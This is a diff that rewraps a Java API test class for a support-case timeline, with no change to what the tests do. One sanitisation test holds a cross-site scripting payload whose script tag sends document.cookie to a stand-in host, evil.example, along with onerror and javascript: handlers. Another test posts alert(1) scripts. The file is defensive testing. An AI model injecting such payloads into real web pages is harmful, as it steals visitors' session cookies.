@@ -29,18 +29,37 @@ class CaseTimelineApiTests extends CasesApiTestBase {
 
         var timeline = timeline(maria.api(), id);
 
-        String mariaName = maria.api().get("/api/v1/agents/me").json().get("name").asString();
+        String mariaName =
+                maria.api().get("/api/v1/agents/me").json().get("name").asString();
         assertThat(timeline)
-                .extracting(e -> e.get("kind").asString(), e -> text(e.get("eventType")), e -> e.get("authorKind").asString(),
-                        e -> text(e.get("authorId")), e -> text(e.get("authorName")), e -> text(e.get("body")))
+                .extracting(
+                        e -> e.get("kind").asString(),
+                        e -> text(e.get("eventType")),
+                        e -> e.get("authorKind").asString(),
+                        e -> text(e.get("authorId")),
+                        e -> text(e.get("authorName")),
+                        e -> text(e.get("body")))
                 .containsExactly(
                         tuple("message_in", null, "customer", customerId, "Paula Key", "My activation key is gone."),
-                        tuple("note", null, "agent", maria.id().toString(), mariaName,
+                        tuple(
+                                "note",
+                                null,
+                                "agent",
+                                maria.id().toString(),
+                                mariaName,
                                 "Checked the license server: key 7F3K issued in March."),
-                        tuple("message_out", null, "agent", maria.id().toString(), mariaName, "I found your key and sent it again."),
+                        tuple(
+                                "message_out",
+                                null,
+                                "agent",
+                                maria.id().toString(),
+                                mariaName,
+                                "I found your key and sent it again."),
                         tuple("event", "status_changed", "agent", maria.id().toString(), mariaName, null),
                         tuple("message_in", null, "customer", customerId, "Paula Key", "Got it, thank you!"));
-        assertThat(timeline).extracting(e -> Instant.parse(e.get("createdAt").asString())).isSorted();
+        assertThat(timeline)
+                .extracting(e -> Instant.parse(e.get("createdAt").asString()))
+                .isSorted();
         assertThat(timeline).extracting(e -> e.get("id").asString()).doesNotHaveDuplicates();
         assertThat(timeline.get(3).get("data").get("from").asString()).isEqualTo("new");
         assertThat(timeline.get(3).get("data").get("to").asString()).isEqualTo("open");
@@ -49,7 +68,8 @@ class CaseTimelineApiTests extends CasesApiTestBase {
     @Test
     void keepsTheCaseFieldsBesideTheTimeline() {
         var agent = newAgent("agent");
-        var kase = open(agent.api(), aCase().subject("Bath mat in the wrong colour").tags("returns"));
+        var kase = open(
+                agent.api(), aCase().subject("Bath mat in the wrong colour").tags("returns"));
 
         var read = read(agent.api(), idOf(kase));
 
@@ -67,14 +87,21 @@ class CaseTimelineApiTests extends CasesApiTestBase {
                 + "<script>fetch('https://evil.example/?c=' + document.cookie)</script>"
                 + "<img src=\"x\" onerror=\"steal()\"><a href=\"javascript:steal()\">see photo</a>";
 
-        var kase = open(agent.api(), aCase().saying("Order 4471 arrived blue, I ordered white.").html(html));
+        var kase = open(
+                agent.api(),
+                aCase().saying("Order 4471 arrived blue, I ordered white.").html(html));
 
         var message = timeline(agent.api(), idOf(kase)).getFirst();
         assertThat(message.get("body").asString()).isEqualTo("Order 4471 arrived blue, I ordered white.");
         assertThat(message.get("html").asString())
                 .doesNotContainIgnoringCase("<script")
                 .doesNotContain("onmouseover", "onerror", "javascript:", "steal", "document.cookie")
-                .contains("<p>", "<b>4471</b>", "<i>blue</i>", "href=\"https://shop.example.com/orders/4471\"", "see photo");
+                .contains(
+                        "<p>",
+                        "<b>4471</b>",
+                        "<i>blue</i>",
+                        "href=\"https://shop.example.com/orders/4471\"",
+                        "see photo");
     }
 
     @Test
@@ -82,10 +109,18 @@ class CaseTimelineApiTests extends CasesApiTestBase {
         var agent = newAgent("agent");
         String id = idOf(open(agent.api(), aCase()));
 
-        var reply = agent.api().post("/api/v1/cases/" + id + "/replies",
-                Map.of("body", "Here is your key.", "html", "<p>Here is your <b>key</b>.<script>alert(1)</script></p>"));
-        var message = agent.api().post("/api/v1/cases/" + id + "/messages",
-                Map.of("body", "Thanks", "html", "<div onclick=\"alert(1)\">Thanks <em>a lot</em></div>"));
+        var reply = agent.api()
+                .post(
+                        "/api/v1/cases/" + id + "/replies",
+                        Map.of(
+                                "body",
+                                "Here is your key.",
+                                "html",
+                                "<p>Here is your <b>key</b>.<script>alert(1)</script></p>"));
+        var message = agent.api()
+                .post(
+                        "/api/v1/cases/" + id + "/messages",
+                        Map.of("body", "Thanks", "html", "<div onclick=\"alert(1)\">Thanks <em>a lot</em></div>"));
 
         assertThat(reply.status()).as(reply.toString()).isEqualTo(201);
         assertThat(reply.json().get("html").asString()).contains("<b>key</b>").doesNotContain("script", "alert");
@@ -101,7 +136,8 @@ class CaseTimelineApiTests extends CasesApiTestBase {
 
         var kase = open(agent.api(), aCase());
 
-        assertThat(timeline(agent.api(), idOf(kase)).getFirst().get("html").isNull()).isTrue();
+        assertThat(timeline(agent.api(), idOf(kase)).getFirst().get("html").isNull())
+                .isTrue();
     }
 
     @Test
@@ -109,7 +145,8 @@ class CaseTimelineApiTests extends CasesApiTestBase {
         var agent = newAgent("agent");
         String id = idOf(open(agent.api(), aCase()));
 
-        var reply = agent.api().post("/api/v1/cases/" + id + "/replies", Map.of("body", "Sorry about the key, here is a new one."));
+        var reply = agent.api()
+                .post("/api/v1/cases/" + id + "/replies", Map.of("body", "Sorry about the key, here is a new one."));
 
         assertThat(reply.status()).as(reply.toString()).isEqualTo(201);
         assertThat(reply.json().get("kind").asString()).isEqualTo("message_out");
@@ -117,9 +154,14 @@ class CaseTimelineApiTests extends CasesApiTestBase {
         assertThat(reply.json().get("authorName").asString()).isNotBlank();
         var kase = read(agent.api(), id);
         assertThat(kase.get("status").asString()).isEqualTo("open");
-        assertThat(kase.get("firstResponseAt").asString()).isEqualTo(reply.json().get("createdAt").asString());
+        assertThat(kase.get("firstResponseAt").asString())
+                .isEqualTo(reply.json().get("createdAt").asString());
         assertThat(history(agent.api(), id))
-                .extracting(c -> c.get("field").asString(), c -> text(c.get("before")), c -> text(c.get("after")), c -> text(c.get("actorId")))
+                .extracting(
+                        c -> c.get("field").asString(),
+                        c -> text(c.get("before")),
+                        c -> text(c.get("after")),
+                        c -> text(c.get("actorId")))
                 .contains(tuple("status", "new", "open", agent.id().toString()));
     }
 
@@ -151,7 +193,8 @@ class CaseTimelineApiTests extends CasesApiTestBase {
         var agent = newAgent("agent");
         String id = idOf(open(agent.api(), aCase()));
 
-        var note = agent.api().post("/api/v1/cases/" + id + "/notes", Map.of("body", "Customer sounds upset; be gentle."));
+        var note =
+                agent.api().post("/api/v1/cases/" + id + "/notes", Map.of("body", "Customer sounds upset; be gentle."));
 
         assertThat(note.status()).as(note.toString()).isEqualTo(201);
         assertThat(note.json().get("kind").asString()).isEqualTo("note");
@@ -160,7 +203,9 @@ class CaseTimelineApiTests extends CasesApiTestBase {
         var kase = read(agent.api(), id);
         assertThat(kase.get("status").asString()).isEqualTo("new");
         assertThat(kase.get("firstResponseAt").isNull()).isTrue();
-        assertThat(kase.get("timeline").values()).extracting(e -> e.get("kind").asString()).containsExactly("message_in", "note");
+        assertThat(kase.get("timeline").values())
+                .extracting(e -> e.get("kind").asString())
+                .containsExactly("message_in", "note");
     }
 
     @ParameterizedTest
@@ -204,7 +249,10 @@ class CaseTimelineApiTests extends CasesApiTestBase {
                 agent.api().post(unknown + "/notes", Map.of("body", "Hello")),
                 agent.api().post(unknown + "/messages", Map.of("body", "Hello")),
                 agent.api().post(unknown + "/assignment", Map.of("ownerId", agent.id())),
-                agent.api().post(unknown + "/transfers", Map.of("toAgentId", agent.id(), "reason", "r", "summary", "s")))) {
+                agent.api()
+                        .post(
+                                unknown + "/transfers",
+                                Map.of("toAgentId", agent.id(), "reason", "r", "summary", "s")))) {
             assertProblem(response, 404, "not-found");
         }
     }
